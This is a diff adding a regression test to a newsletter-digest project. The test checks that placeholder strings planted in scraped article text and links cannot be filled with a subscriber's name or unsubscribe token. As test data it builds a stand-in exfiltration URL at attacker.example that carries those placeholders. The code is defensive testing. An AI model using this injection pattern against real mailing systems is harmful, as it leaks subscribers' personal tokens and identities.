@@ -18,6 +18,7 @@ from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from email.message import EmailMessage
 from email.policy import default as default_policy
+from html import unescape
 from pathlib import Path
 from typing import Any
 
@@ -512,3 +513,41 @@ def test_a_message_that_cannot_be_built_fails_alone(tmp_path: Path) -> None:
     assert "sending" not in statuses.values()
     assert statuses["odd@exa\u200bmple..org"] == "failed"
     store.close()
+
+
+def test_scraped_text_never_becomes_a_personal_value(tmp_path: Path) -> None:
+    # the attack: a page whose canonical link holds the placeholders the per-subscriber
+    # fill-in looked for was mailed with the subscriber's name and token in the link
+    from digest.render import HOLES
+
+    config = write_config(tmp_path, mail="  outbox: outbox",
+                          subscribers='  - email: carol@example.org\n    name: Carol\n',
+                          extra="web: {base_url: 'https://digest.example.org'}\n")
+    old = ("DIGESTxPERSONALxNAMEx7c1f", "DIGESTxPERSONALxTOKENx7c1f")  # the public strings of before
+    url = f"http://attacker.example/steal?n={old[0]}&t={old[1]}&m={HOLES[0]}&k={HOLES[1]}"
+    now = datetime.now(UTC)
+    text = (f"Envoys met in Geneva to sign a grain corridor accord {old[1]} {HOLES[1]}. "
+            f"Diplomats said the accord {old[0]} {HOLES[0]} takes effect on Monday.")
+    statement = ("The ministry welcomes the grain corridor accord signed in Geneva by the envoys. "
+                 "The accord on the grain corridor will take effect on Monday, the ministry said.")
+    lines = [json.dumps({"url": url if source == "wire" else f"https://{source}.example/1",
+                         "source": source, "published": (now - timedelta(hours=1)).isoformat(),
+                         "title": f"Grain corridor accord signed {HOLES[0]}", "text": body})
+             for source, body in (("wire", text), ("ministry", statement))]
+    (tmp_path / "articles.jsonl").write_text("\n".join(lines) + "\n")
+    assert run_digest("import", "--config", str(config), str(tmp_path / "articles.jsonl")).code == 0
+    assert run_digest("stories", "--config", str(config)).code == 0
+    assert run_digest("send", "--config", str(config)).code == 0
+    [msg] = outbox_messages(config)
+    token = re.findall(r"<https://digest.example.org/unsubscribe/([^>]+)>", msg["List-Unsubscribe"])[0]
+    store = Store(load_config(config).database)
+    [stored] = [a.url for a in store.articles_between(now - timedelta(days=1), now) if "attacker" in a.url]
+    store.close()
+    html, plain = body(msg, "html"), body(msg, "plain")
+    links = re.findall(r'href="(http://attacker[^"]*)"', html)
+    assert links and {unescape(link) for link in links} == {stored.replace(HOLES[0], "").replace(HOLES[1], "")}
+    for part in (html, plain):
+        assert token not in part.replace(f"/unsubscribe/{token}", "").replace(
+            f"/preferences/{token}", "").replace(f"?t={token}", "")
+        assert "Carol" not in part.replace("for Carol", "", 1)
+        assert old[1] in part  # scraped text stays as it was, inert
